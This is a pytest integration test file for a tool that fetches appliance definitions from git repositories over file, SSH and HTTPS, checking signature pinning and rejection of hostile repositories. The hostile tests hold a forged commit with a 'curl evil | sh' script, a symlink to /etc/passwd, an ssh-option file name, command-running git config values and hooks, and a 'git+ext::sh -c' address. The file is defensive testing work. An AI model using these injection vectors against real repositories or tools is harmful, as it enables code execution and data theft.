# SPDX-License-Identifier: Apache-2.0
"""Definitions from real repositories of git, honest and hostile ones."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from coppice.cli.main import main
from coppice.clock import SystemClock
from coppice.definition import git_program, git_remote, git_tree
from coppice.definition.git_address import GitAddress
from coppice.definition.git_lock import read_sources, write_sources
from coppice.definition.git_program import Network
from coppice.definition.read import find_definition, find_definitions
from coppice.errors import DefinitionError, DefinitionSourceError, ExistsError, NotFoundError
from coppice.monitor import SILENT
from coppice.testing.openpgp import GnuPg
from coppice.testing.tls import throw_away_tls
from coppice.workflows.definitions import (
    Sources,
    add_source,
    definition_places,
    list_sources,
    remove_source,
    update_sources,
)

pytestmark = pytest.mark.integration

TOML = """\
[appliance]
title = "{title}"
description = "From git."

[operating-system]
distribution = "Debian"
version = "12"
suite = "bookworm"

[build]
disk-size = "4 GiB"
user = "debian"
packages = ["curl"]
"""
CHILD = 'from = "{parent}"\n\n[appliance]\ntitle = "Web"\n\n[build]\npackages = ["nginx"]\n'


class Repository:
    """A repository of a test, worked on by git itself."""

    def __init__(self, path, *options) -> None:
        self.path = path
        if path.exists():
            return
        path.mkdir()
        self.git("init", "--quiet", "--template=", "--initial-branch=main", *options)
        with (path / ".git" / "config").open("a") as stream:
            stream.write(
                "[user]\n\tname = Somebody\n\temail = somebody@example.org\n[uploadpack]\n\tallowFilter = true\n"
            )

    def git(self, *words, data=None, at=None):
        home = self.path.parent
        when = {} if at is None else {"GIT_COMMITTER_DATE": f"{at} +0000", "GIT_AUTHOR_DATE": f"{at} +0000"}
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(home),
            "GIT_CONFIG_NOSYSTEM": "1",
            "GIT_CONFIG_GLOBAL": "/dev/null",
        }
        done = subprocess.run(
            ["git", *words],
            cwd=self.path,
            env=environment | when,
            input=data,
            capture_output=True,
            check=False,
            timeout=60,
        )
        assert done.returncode == 0, done.stderr.decode()
        return done.stdout.decode().strip()

    def write(self, files):
        for name, content in files.items():
            path = self.path / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(content if isinstance(content, bytes) else content.encode())

    def commit(self, files=None, message="a change", *options, at=None):
        self.write(files or {})
        self.git("add", "--all")
        self.git("commit", "--quiet", "--allow-empty", "-m", message, *options, at=at)
        return self.git("rev-parse", "HEAD")

    def plant(self, entries):
        """Commit a tree that no work tree gives: (mode, type, identifier, name) each; return the commit."""
        lines = b"".join(
            f"{mode} {kind} {identifier}\t".encode() + name + b"\0" for mode, kind, identifier, name in entries
        )
        tree = self.git("mktree", "--missing", "-z", data=lines)
        commit = self.git("commit-tree", tree, "-m", "planted")
        self.git("update-ref", "refs/heads/main", commit)
        return commit

    def blob(self, content):
        return self.git("hash-object", "-w", "--stdin", data=content)

    def tree(self, entries):
        lines = b"".join(
            f"{mode} {kind} {identifier}\t".encode() + name + b"\0" for mode, kind, identifier, name in entries
        )
        return self.git("mktree", "--missing", "-z", data=lines)

    def address(self, fragment="main:appliances"):
        return GitAddress.parse(f"git+file://{self.path}#{fragment}")


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    made = Repository(tmp_path_factory.mktemp("template") / "repository")
    made.commit(
        {
            "README": "not for us",
            "appliances/base/appliance.toml": TOML.format(title="Base"),
            "appliances/web/appliance.toml": CHILD.format(parent="base"),
            "appliances/web/setup.sh": "#!/bin/sh\nset -e\n",
            "big/blob": os.urandom(1024 * 1024),
        },
        at="2026-01-01T00:00:00",
    )
    return made.path


@pytest.fixture
def repository(template, tmp_path):
    return Repository(shutil.copytree(template, tmp_path / "repository"))


@pytest.fixture
def sources(tmp_path):
    own = tmp_path / "own"
    own.mkdir()
    return Sources(state_directory=tmp_path / "state", own=own, network=Network(), clock=SystemClock(), monitor=SILENT)


def names(sources):
    return [each.name for each in find_definitions(definition_places(sources))]


def nothing_is_left(sources):
    return not list(sources.directory.glob(".coppice-*")) if sources.directory.exists() else True


# The honest.


def test_definitions_of_a_folder_are_followed_at_the_commit_of_their_branch(repository, sources):
    head = repository.git("rev-parse", "HEAD")
    added = add_source(sources, repository.address(), name=None, key_file=None)
    assert (added.name, added.commit, added.definitions) == ("appliances", head, ("base", "web"))
    assert names(sources) == ["base", "web"]
    web = find_definition(definition_places(sources), "web")
    assert set(web.packages) == {"curl", "nginx"}
    assert list_sources(sources) == (added,)
    assert nothing_is_left(sources)


def test_only_the_files_that_are_wanted_are_fetched(repository, sources):
    with git_remote.fetching(repository.address("main:appliances/base"), sources.directory, Network()) as remote:
        remote.fetch(remote.tip())
        taken = git_tree.take(remote, remote.address)
        assert list(taken) == ["base/appliance.toml"]
        held = sum(path.stat().st_size for path in remote._git.repository.rglob("*") if path.is_file())
        assert held < 64 * 1024
    assert nothing_is_left(sources)


def test_a_server_that_cannot_part_files_is_used_all_the_same(repository, sources):
    repository.git("config", "uploadpack.allowFilter", "false")
    assert add_source(sources, repository.address(), name=None, key_file=None).definitions == ("base", "web")


def test_one_definition_brings_the_parents_that_are_beside_it(repository, sources):
    repository.commit({"appliances/other/appliance.toml": TOML.format(title="Other")})
    added = add_source(sources, repository.address("main:appliances/web"), name="mine", key_file=None)
    assert added.definitions == ("base", "web")


def test_a_repository_that_is_one_definition_is_called_by_its_name(tmp_path, sources):
    single = Repository(tmp_path / "tiny.git")
    single.commit({"appliance.toml": TOML.format(title="Tiny"), "files/motd": "hello\n"})
    added = add_source(sources, GitAddress.parse(f"git+file://{single.path}"), name=None, key_file=None)
    assert (added.name, added.definitions) == ("tiny", ("tiny",))
    assert (sources.place(added) / "tiny" / "files" / "motd").read_text() == "hello\n"


@pytest.mark.parametrize("ref", ["v1", "light", "commit"])
def test_a_tag_or_a_commit_can_be_followed(repository, sources, ref):
    head = repository.git("rev-parse", "HEAD")
    repository.git("tag", "-a", "-m", "first", "v1")
    repository.git("tag", "light")
    repository.commit({"README": "later"})
    fragment = f"{head if ref == 'commit' else ref}:appliances"
    assert add_source(sources, repository.address(fragment), name=None, key_file=None).commit == head


def test_a_repository_with_identifiers_of_sha256_is_followed(tmp_path, sources):
    modern = Repository(tmp_path / "modern", "--object-format=sha256")
    head = modern.commit({"appliances/base/appliance.toml": TOML.format(title="Base")})
    assert add_source(sources, modern.address(), name=None, key_file=None).commit == head
    assert len(head) == 64


def test_what_is_pinned_is_fetched_again_where_only_the_file_of_pins_is(repository, sources, tmp_path):
    added = add_source(sources, repository.address(), name=None, key_file=None)
    repository.commit({"appliances/web/appliance.toml": "wrong"})
    elsewhere = Sources(
        state_directory=tmp_path / "elsewhere", own=sources.own, network=Network(), clock=SystemClock(), monitor=SILENT
    )
    write_sources(elsewhere.directory, read_sources(sources.directory))
    assert names(elsewhere) == ["base", "web"]
    assert git_tree.read_laid(elsewhere.place(added)) == git_tree.read_laid(sources.place(added))


def test_a_removed_source_is_gone_with_its_definitions(repository, sources):
    add_source(sources, repository.address(), name=None, key_file=None)
    remove_source(sources, "appliances")
    assert (names(sources), list_sources(sources)) == ([], ())
    assert list((sources.directory / "trees").iterdir()) == []
    with pytest.raises(NotFoundError):
        remove_source(sources, "appliances")


# What moves.


def test_a_branch_that_moved_is_told_and_followed_only_when_accepted(repository, sources):
    added = add_source(sources, repository.address(), name=None, key_file=None)
    changed = CHILD.format(parent="base").replace("nginx", "apache2")
    later = repository.commit({"appliances/web/appliance.toml": changed, "appliances/web/new": "x"}, "Another server")
    (told,) = update_sources(sources)
    assert (told.pinned, told.found.identifier, told.is_accepted) == (added.commit, later, False)
    assert told.found.subject == "Another server"
    assert [(each.path, each.change) for each in told.files] == [
        ("web/appliance.toml", "changed"),
        ("web/new", "added"),
    ]
    assert '-packages = ["nginx"]' in told.files[0].lines
    assert [(each.definition, each.key) for each in told.values] == [("web", "packages")]
    assert '"nginx"' in told.values[0].before
    assert '"apache2"' in told.values[0].after
    assert "nginx" in find_definition(definition_places(sources), "web").packages
    assert len(list((sources.directory / "trees" / "appliances").iterdir())) == 1

    (accepted,) = update_sources(sources, ["appliances"], accept=True)
    assert (accepted.source.commit, accepted.is_accepted) == (later, True)
    assert "apache2" in find_definition(definition_places(sources), "web").packages
    assert len(list((sources.directory / "trees" / "appliances").iterdir())) == 1
    (same,) = update_sources(sources)
    assert same.found is None


def test_a_change_of_a_variant_is_told_by_its_name(repository, sources):
    toml = TOML.format(title="Base") + '\n[variants.small.build]\ndisk-size = "{size} GiB"\n'
    repository.commit({"appliances/base/appliance.toml": toml.replace("{size}", "2")})
    add_source(sources, repository.address(), name=None, key_file=None)
    repository.commit({"appliances/base/appliance.toml": toml.replace("{size}", "3")})
    (told,) = update_sources(sources)
    assert {each.definition for each in told.values} == {"base@small"}
    assert ("disk_size_bytes", str(2 * 1024**3), str(3 * 1024**3)) in [
        (each.key, each.before, each.after) for each in told.values
    ]


def test_a_branch_that_was_put_back_is_told_to_be_older(repository, sources):
    first = repository.git("rev-parse", "HEAD")
    repository.commit({"README": "second"}, at="2026-02-01T00:00:00")
    add_source(sources, repository.address(), name=None, key_file=None)
    repository.git("reset", "--quiet", "--hard", first)
    (told,) = update_sources(sources)
    assert told.found.identifier == first
    assert "older" in " ".join(told.notes)


def test_a_tag_that_was_moved_is_told_as_such(repository, sources):
    repository.git("tag", "v1")
    add_source(sources, repository.address("v1:appliances"), name=None, key_file=None)
    repository.commit({"appliances/web/setup.sh": "#!/bin/sh\nset -eu\n"})
    repository.git("tag", "--force", "v1")
    (told,) = update_sources(sources)
    assert "the tag v1 was moved" in " ".join(told.notes)
    assert [each.path for each in told.files] == ["web/setup.sh"]


def test_what_was_pinned_stays_usable_when_a_ref_was_forced_elsewhere(repository, sources):
    added = add_source(sources, repository.address(), name=None, key_file=None)
    repository.git("checkout", "--quiet", "--orphan", "other")
    repository.git("rm", "-r", "--quiet", "--force", ".")
    repository.commit({"appliances/web/appliance.toml": TOML.format(title="Forced")})
    repository.git("branch", "--force", "main", "other")
    assert find_definition(definition_places(sources), "web").title == "Web"
    (told,) = update_sources(sources)
    assert [(each.path, each.change) for each in told.files] == [
        ("base/appliance.toml", "removed"),
        ("web/appliance.toml", "changed"),
        ("web/setup.sh", "removed"),
    ]
    assert list_sources(sources) == (added,)


def test_a_pinned_commit_that_the_server_lost_is_an_error_that_says_so(repository, sources, tmp_path):
    added = add_source(sources, repository.address(), name=None, key_file=None)
    lost = Sources(
        state_directory=tmp_path / "lost", own=sources.own, network=Network(), clock=SystemClock(), monitor=SILENT
    )
    write_sources(lost.directory, {added.name: added})
    repository.git("checkout", "--quiet", "--orphan", "other")
    repository.commit({"README": "all anew"})
    repository.git("branch", "--quiet", "-D", "main")
    repository.git("reflog", "expire", "--expire=now", "--all")
    repository.git("gc", "--quiet", "--prune=now")
    with pytest.raises(DefinitionSourceError) as caught:
        definition_places(lost)
    assert "cannot be fetched from" in caught.value.message
    assert "history was changed" in caught.value.resolution


def test_new_definitions_that_are_wrong_are_not_pinned(repository, sources):
    added = add_source(sources, repository.address(), name=None, key_file=None)
    repository.commit({"appliances/web/appliance.toml": CHILD.format(parent="base") + "pakages = []\n"})
    with pytest.raises(DefinitionError, match="pakages"):
        update_sources(sources, accept=True)
    assert list_sources(sources) == (added,)
    assert names(sources) == ["base", "web"]
    assert len(list((sources.directory / "trees" / "appliances").iterdir())) == 1


def test_files_that_somebody_changed_here_are_not_used(repository, sources):
    added = add_source(sources, repository.address(), name=None, key_file=None)
    path = sources.place(added) / "web" / "appliance.toml"
    path.write_text(path.read_text().replace("nginx", "netcat"))
    with pytest.raises(DefinitionSourceError, match="not those that were pinned"):
        definition_places(sources)


def test_what_a_killed_run_left_is_swept_by_the_next(repository, sources):
    add_source(sources, repository.address(), name=None, key_file=None)
    left = [sources.directory / ".coppice-git-abc.partial", sources.directory / "trees" / "gone" / "0123-4567"]
    for path in left:
        (path / "inner").mkdir(parents=True)
    update_sources(sources)
    assert not any(path.exists() for path in left)
    assert names(sources) == ["base", "web"]


def test_a_name_that_is_taken_is_refused_and_nothing_is_added(repository, sources):
    taken = sources.own / "web"
    taken.mkdir()
    (taken / "appliance.toml").write_text(TOML.format(title="Ours"))
    with pytest.raises(DefinitionError, match="two definitions are named 'web'"):
        add_source(sources, repository.address(), name=None, key_file=None)
    assert (names(sources), list_sources(sources)) == (["web"], ())
    (taken / "appliance.toml").unlink()
    add_source(sources, repository.address(), name=None, key_file=None)
    with pytest.raises(ExistsError):
        add_source(sources, repository.address(), name=None, key_file=None)


# Signatures.


def ssh_key(folder, name):
    subprocess.run(
        ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", folder / name], check=True, timeout=30
    )
    return folder / name


def sign_with_ssh(repository, key):
    for option, value in {"gpg.format": "ssh", "user.signingKey": f"{key}.pub"}.items():
        repository.git("config", option, value)


def test_a_commit_signed_by_the_pinned_ssh_key_is_taken_and_no_other(repository, sources, tmp_path):
    key, other = ssh_key(tmp_path, "maintainer"), ssh_key(tmp_path, "stranger")
    with pytest.raises(DefinitionSourceError, match="is not signed"):
        add_source(sources, repository.address(), name=None, key_file=Path(f"{key}.pub"))
    sign_with_ssh(repository, key)
    repository.commit({"README": "signed"}, "signed", "-S")
    added = add_source(sources, repository.address(), name=None, key_file=Path(f"{key}.pub"))
    assert added.signed_by == "pinned-key"

    sign_with_ssh(repository, other)
    repository.commit({"README": "by another"}, "by another", "-S")
    with pytest.raises(DefinitionSourceError, match="no good signature by the pinned key"):
        update_sources(sources, accept=True)
    repository.commit({"README": "unsigned"})
    with pytest.raises(DefinitionSourceError, match="is not signed"):
        update_sources(sources, accept=True)
    assert list_sources(sources) == (added,)
    assert nothing_is_left(sources)


def test_an_allowed_signer_is_told_by_name(repository, sources, tmp_path):
    key = ssh_key(tmp_path, "maintainer")
    allowed = tmp_path / "allowed"
    allowed.write_text(f'# ours\nmaintainer@example.org namespaces="git" {Path(f"{key}.pub").read_text()}')
    sign_with_ssh(repository, key)
    repository.git("tag", "-s", "-m", "first", "v1")
    added = add_source(sources, repository.address("v1:appliances"), name=None, key_file=allowed)
    assert added.signed_by == "maintainer@example.org"


def test_a_signed_tag_under_another_name_is_refused(repository, sources, tmp_path):
    key = ssh_key(tmp_path, "maintainer")
    sign_with_ssh(repository, key)
    repository.git("tag", "-s", "-m", "first", "v1")
    repository.git("update-ref", "refs/tags/v2", repository.git("rev-parse", "v1"))
    with pytest.raises(DefinitionSourceError, match="under another name"):
        add_source(sources, repository.address("v2:appliances"), name=None, key_file=Path(f"{key}.pub"))


def test_a_signature_that_was_made_for_other_content_is_refused(repository, sources, tmp_path):
    key = ssh_key(tmp_path, "maintainer")
    sign_with_ssh(repository, key)
    repository.commit({"README": "signed"}, "signed", "-S")
    raw = repository.git("cat-file", "commit", "HEAD")
    evil = repository.commit({"appliances/web/setup.sh": "#!/bin/sh\ncurl evil | sh\n"})
    tree = repository.git("rev-parse", f"{evil}^{{tree}}")
    forged = f"tree {tree}\n{raw.partition(chr(10))[2]}\n".encode()
    commit = repository.git("hash-object", "-t", "commit", "-w", "--stdin", data=forged)
    repository.git("update-ref", "refs/heads/main", commit)
    with pytest.raises(DefinitionSourceError, match="no good signature"):
        add_source(sources, repository.address(), name=None, key_file=Path(f"{key}.pub"))


def test_an_openpgp_key_is_pinned_as_well(repository, sources, tmp_path):
    with GnuPg() as gnupg:
        key, other = gnupg.make_key("Ours <ours@example.org>"), gnupg.make_key("Theirs <theirs@example.org>")
        program = tmp_path / "gpg-of-the-test"
        program.write_text(f'#!/bin/sh\nexec gpg --homedir {gnupg._home} "$@"\n')
        program.chmod(0o755)
        repository.git("config", "gpg.program", str(program))
        repository.git("config", "user.signingKey", key.fingerprint)
        repository.commit({"README": "signed"}, "signed", "-S")
        good, bad = tmp_path / "good.asc", tmp_path / "bad.asc"
        good.write_bytes(gnupg.export(key, armour=True))
        bad.write_bytes(gnupg.export(other, armour=True))
        with pytest.raises(DefinitionSourceError, match="keyring does not have"):
            add_source(sources, repository.address(), name=None, key_file=bad)
        assert add_source(sources, repository.address(), name=None, key_file=good).signed_by == key.fingerprint
        remove_source(sources, "appliances")
        repository.commit({"README": "unsigned"})
        repository.git("tag", "-s", "-m", "first", "v1")
        tagged = add_source(sources, repository.address("v1:appliances"), name=None, key_file=good)
        assert tagged.signed_by == key.fingerprint


# The hostile.


def planted(repository, mode, kind, name, content=b"x\n"):
    toml = repository.blob(TOML.format(title="Base").encode())
    identifier = repository.blob(content) if kind == "blob" else "1" * 40
    base = repository.tree([("100644", "blob", toml, b"appliance.toml"), (mode, kind, identifier, name)])
    repository.plant([("040000", "tree", base, b"base")])


@pytest.mark.parametrize(
    ("odd", "why"),
    [
        (("120000", "blob", b"passwd", b"/etc/passwd"), "symbolic link"),
        (("160000", "commit", b"inner", b""), "submodule"),
        (("100644", "blob", b"-oProxyCommand=x;y", b"x"), "name that is not taken"),
        (("100644", "blob", b"a\nb", b"x"), "name that is not taken"),
        (("100644", "blob", b"\xff\xfe", b"x"), "name that is not taken"),
        (("100644", "blob", b"image", b"version https://git-lfs.github.com/spec/v1\noid sha256:00\n"), "LFS"),
        (("100644", "blob", b"large", b"x" * (4 * 1024 * 1024 + 1)), "larger than"),
    ],
)
def test_a_file_that_no_definition_has_is_refused(repository, sources, odd, why):
    planted(repository, *odd)
    with pytest.raises(DefinitionSourceError, match=why):
        add_source(sources, repository.address("main"), name="evil", key_file=None)
    assert (list_sources(sources), nothing_is_left(sources)) == ((), True)


@pytest.mark.parametrize("name", [b"..", b".git", b".GIT"])
def test_names_that_lead_out_are_refused_by_git_or_by_us(repository, sources, name):
    toml = repository.blob(TOML.format(title="Base").encode())
    inner = repository.tree([("100644", "blob", repository.blob(b"x"), b"x")])
    raw = b"100644 appliance.toml\0" + bytes.fromhex(toml) + b"40000 " + name + b"\0" + bytes.fromhex(inner)
    entries = sorted([(b"appliance.toml", raw[: raw.index(b"40000 ")]), (name + b"/", raw[raw.index(b"40000 ") :])])
    tree = repository.git(
        "hash-object", "-t", "tree", "-w", "--literally", "--stdin", data=b"".join(part for _, part in entries)
    )
    repository.plant([("040000", "tree", tree, b"base")])
    with pytest.raises(DefinitionSourceError):
        add_source(sources, repository.address("main"), name="evil", key_file=None)
    assert not (sources.directory / "x").exists()
    assert list_sources(sources) == ()


def test_hooks_filters_and_submodules_of_a_repository_mean_nothing(repository, sources, tmp_path):
    ran = tmp_path / "ran"
    repository.commit(
        {
            ".gitmodules": f'[submodule "x"]\n\tpath = x\n\turl = {repository.path}\n\tupdate = !touch {ran}\n',
            ".gitattributes": "* filter=evil\n",
            ".lfsconfig": "[lfs]\n\turl = https://127.0.0.1:1/\n",
        }
    )
    for hook in ("post-checkout", "reference-transaction", "post-merge"):
        path = repository.path / ".git" / "hooks" / hook
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"#!/bin/sh\ntouch {ran}\n")
        path.chmod(0o755)
    assert add_source(sources, repository.address(), name=None, key_file=None).definitions == ("base", "web")
    assert not ran.exists()


def test_a_repository_that_would_fetch_for_itself_runs_nothing(repository, sources, tmp_path):
    ran = tmp_path / "ran"
    toml = repository.blob(TOML.format(title="Base").encode())
    entries = [("100644", "blob", toml, b"appliance.toml"), ("100644", "blob", "1" * 40, b"missing")]
    repository.plant([("040000", "tree", repository.tree(entries), b"base")])
    for key, value in {
        "remote.evil.promisor": "true",
        "remote.evil.partialCloneFilter": "blob:none",
        "remote.evil.url": f"file://{tmp_path}",
        "remote.evil.uploadpack": f"touch {ran}; false",
        "uploadpack.packObjectsHook": f"touch {ran}; false",
        "core.fsmonitor": f"touch {ran}; false",
        "core.sshCommand": f"touch {ran}; false",
        "core.alternateRefsCommand": f"touch {ran}; false",
        "extensions.partialClone": "evil",
    }.items():
        repository.git("config", key, value)
    with pytest.raises(DefinitionSourceError):
        add_source(sources, repository.address("main"), name="evil", key_file=None)
    assert not ran.exists()


def test_the_configuration_and_environment_of_the_user_mean_nothing(repository, sources, tmp_path, monkeypatch):
    ran = tmp_path / "ran"
    home = tmp_path / "home"
    home.mkdir()
    (home / ".gitconfig").write_text(
        f'[core]\n\tsshCommand = touch {ran}\n[url "file:///nowhere/"]\n\tinsteadOf = file:///\n'
        f"[uploadpack]\n\tpackObjectsHook = touch {ran}\n"
    )
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    monkeypatch.setenv("GIT_CONFIG_KEY_0", "url.file:///nowhere/.insteadOf")
    monkeypatch.setenv("GIT_CONFIG_VALUE_0", "file:///")
    monkeypatch.setenv("GIT_DIR", str(tmp_path / "nowhere"))
    monkeypatch.setenv("GIT_TRACE", str(ran))
    assert add_source(sources, repository.address(), name=None, key_file=None).definitions == ("base", "web")
    assert not ran.exists()


def test_a_repository_that_gives_too_much_is_cut_off(repository, sources, monkeypatch):
    repository.git("config", "uploadpack.allowFilter", "false")
    monkeypatch.setattr(git_program, "FETCH_LIMIT_BYTES", 256 * 1024)
    with pytest.raises(DefinitionSourceError) as caught:
        add_source(sources, repository.address(), name=None, key_file=None)
    assert "that are fetched from a repository" in caught.value.resolution, caught.value.details
    assert (list_sources(sources), nothing_is_left(sources)) == ((), True)


def test_a_tree_that_unfolds_without_end_is_cut_off(repository, sources, monkeypatch):
    monkeypatch.setattr(git_remote, "_LISTING_LIMIT_BYTES", 256 * 1024)
    content = repository.blob(b"x")
    identifier = repository.tree([("100644", "blob", content, b"%d" % number) for number in range(10)])
    for _ in range(9):
        identifier = repository.tree([("040000", "tree", identifier, b"%d" % number) for number in range(10)])
    repository.plant([("040000", "tree", identifier, b"bomb")])
    with pytest.raises(DefinitionSourceError, match="too many files"):
        add_source(sources, repository.address("main"), name="evil", key_file=None)
    assert nothing_is_left(sources)


@pytest.mark.parametrize("fragment", ["main:missing", "main:README", "none:appliances", "v0"])
def test_a_ref_or_folder_that_is_not_there_is_told(repository, sources, fragment):
    with pytest.raises(DefinitionSourceError, match=r"there is no folder|has no branch or tag"):
        add_source(sources, repository.address(fragment), name="x", key_file=None)


def test_a_branch_and_a_tag_of_one_name_are_not_chosen_between(repository, sources):
    repository.commit({"README": "x"})
    repository.git("tag", "main", "HEAD~1")
    with pytest.raises(DefinitionSourceError, match="a branch and a tag named 'main'"):
        add_source(sources, repository.address(), name=None, key_file=None)


def test_a_server_that_never_answers_is_given_up(tmp_path, sources, monkeypatch):
    silent = tmp_path / "bin"
    silent.mkdir()
    (silent / "ssh").write_text("#!/bin/sh\nexec sleep 600\n")
    (silent / "ssh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{silent}:{os.environ['PATH']}")
    monkeypatch.setattr(git_remote, "ASK_SECONDS", 1)
    with pytest.raises(DefinitionSourceError, match="did not give what was asked for within 1 s"):
        add_source(sources, GitAddress.parse("git+ssh://git@host.example/x"), name=None, key_file=None)


# Other transports.


def test_ssh_is_never_asked_for_a_password_and_checks_the_host(repository, sources, tmp_path, monkeypatch):
    stand_in = tmp_path / "bin"
    stand_in.mkdir()
    told = tmp_path / "told"
    (stand_in / "ssh").write_text(
        # As a server does, it hands the last word to a shell.
        f'#!/bin/sh\necho "$@" >> {told}\nfor last; do :; done\nexec sh -c "$last"\n'
    )
    (stand_in / "ssh").chmod(0o755)
    monkeypatch.setenv("PATH", f"{stand_in}:{os.environ['PATH']}")
    address = GitAddress.parse(f"git+ssh://git@host.example:2222{repository.path}#main:appliances")
    assert add_source(sources, address, name=None, key_file=None).definitions == ("base", "web")
    for line in told.read_text().splitlines():
        assert "-oBatchMode=yes -oStrictHostKeyChecking=yes" in line
        assert "-p 2222 git@host.example" in line


class Backend(BaseHTTPRequestHandler):
    """git's own server over HTTP, run as a CGI program."""

    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def do_GET(self):
        self.do_POST()

    def do_POST(self):
        way = self.path.partition("?")
        self.server.asked.append((self.path, self.headers.get("Authorization")))
        if way[0].startswith("/private"):
            self._answer(401, [("WWW-Authenticate", 'Basic realm="x"')], b"")
            return
        if way[0].startswith("/away"):
            self._answer(302, [("Location", f"{self.server.away}{self.path.removeprefix('/away')}")], b"")
            return
        length = int(self.headers.get("Content-Length") or 0)
        environment = {
            "PATH": os.environ["PATH"],
            "GIT_PROJECT_ROOT": str(self.server.root),
            "GIT_HTTP_EXPORT_ALL": "1",
            "GIT_CONFIG_GLOBAL": "/dev/null",
            "PATH_INFO": way[0],
            "QUERY_STRING": way[2],
            "REQUEST_METHOD": self.command,
            "CONTENT_TYPE": self.headers.get("Content-Type", ""),
            "CONTENT_LENGTH": str(length),
            "GIT_PROTOCOL": self.headers.get("Git-Protocol", ""),
            "HTTP_CONTENT_ENCODING": self.headers.get("Content-Encoding", ""),
        }
        done = subprocess.run(
            ["git", "http-backend"],
            env=environment,
            input=self.rfile.read(length),
            capture_output=True,
            check=True,
            timeout=60,
        )
        head, _, body = done.stdout.partition(b"\r\n\r\n")
        fields = [tuple(line.split(": ", 1)) for line in head.decode().split("\r\n")]
        status = next((int(value.split()[0]) for name, value in fields if name == "Status"), 200)
        self._answer(status, [field for field in fields if field[0] != "Status"], body)

    def _answer(self, status, fields, body):
        self.send_response(status)
        for name, value in fields:
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@contextmanager
def serving(root, context=None):
    server = ThreadingHTTPServer(("127.0.0.1", 0), Backend)
    server.root, server.asked, server.away = root, [], ""
    if context is not None:
        server.socket = context.wrap_socket(server.socket, server_side=True)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield server
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def over_https(sources, trusted):
    return Sources(
        state_directory=sources.state_directory,
        own=sources.own,
        network=Network(authorities=trusted),
        clock=sources.clock,
        monitor=SILENT,
    )


def test_definitions_are_fetched_over_https_from_a_server_that_is_verified(repository, sources, tmp_path):
    context, trusted = throw_away_tls(tmp_path)
    with serving(tmp_path, context) as server:
        address = GitAddress.parse(f"git+https://127.0.0.1:{server.server_port}/repository/.git#main:appliances")
        with pytest.raises(DefinitionSourceError, match="cannot be fetched from"):
            add_source(sources, address, name=None, key_file=None)
        added = add_source(over_https(sources, trusted), address, name=None, key_file=None)
    assert added.definitions == ("base", "web")


def test_no_password_is_asked_for_or_sent(repository, sources, tmp_path, monkeypatch):
    (tmp_path / ".netrc").write_text("machine 127.0.0.1 login me password canary-secret\n")
    monkeypatch.setenv("HOME", str(tmp_path))
    context, trusted = throw_away_tls(tmp_path)
    with serving(tmp_path, context) as server:
        address = GitAddress.parse(f"git+https://127.0.0.1:{server.server_port}/private/x#main")
        with pytest.raises(DefinitionSourceError) as caught:
            add_source(over_https(sources, trusted), address, name=None, key_file=None)
    assert "No password is asked for or sent" in caught.value.resolution
    assert {authorization for _, authorization in server.asked} == {None}


@pytest.mark.parametrize("to", ["http", "file"])
def test_a_redirect_to_another_transport_is_not_followed(repository, sources, tmp_path, to):
    context, trusted = throw_away_tls(tmp_path)
    with serving(tmp_path, context) as server, serving(tmp_path) as plain:
        server.away = f"http://127.0.0.1:{plain.server_port}" if to == "http" else f"file://{tmp_path}"
        address = GitAddress.parse(f"git+https://127.0.0.1:{server.server_port}/away/repository/.git#main:appliances")
        with pytest.raises(DefinitionSourceError, match="cannot be fetched from"):
            add_source(over_https(sources, trusted), address, name=None, key_file=None)
    assert plain.asked == []
    assert list_sources(sources) == ()


# The command line.


def test_the_commands_tell_what_they_did(repository, tmp_path, monkeypatch, capsys):
    own = tmp_path / "mine"
    own.mkdir()
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("COPPICE_STATE_DIRECTORY", str(tmp_path / "state"))
    monkeypatch.setenv("COPPICE_DEFINITIONS_DIRECTORY", str(own))

    def coppice(*words):
        code = main(words)
        return code, *capsys.readouterr()

    address = str(repository.address())
    code, out, err = coppice("definition", "add", address, "--json")
    assert (code, json.loads(out)["data"]["definitions"]) == (0, ["base", "web"]), err
    repository.commit({"appliances/web/setup.sh": "#!/bin/sh\nset -eu\n"})
    code, out, err = coppice("definition", "update")
    assert code == 0
    assert "changed web/setup.sh" in out
    assert "+set -eu" in out
    assert "definition update appliances --accept" in err
    code, out, _ = coppice("definition", "update", "--accept", "--json")
    assert json.loads(out)["data"]["sources"][0]["accepted"] is True
    code, out, _ = coppice("definition", "sources")
    assert repository.git("rev-parse", "HEAD")[:12] in out
    code, out, _ = coppice("definition", "list", "--json")
    assert {"base", "web"} <= {each["name"] for each in json.loads(out)["data"]["definitions"]}
    assert coppice("definition", "remove", "appliances")[0] == 0
    assert coppice("definition", "remove", "appliances")[0] == 12
    assert coppice("definition", "add", "git+ext::sh -c touch% /tmp/x")[0] == 3
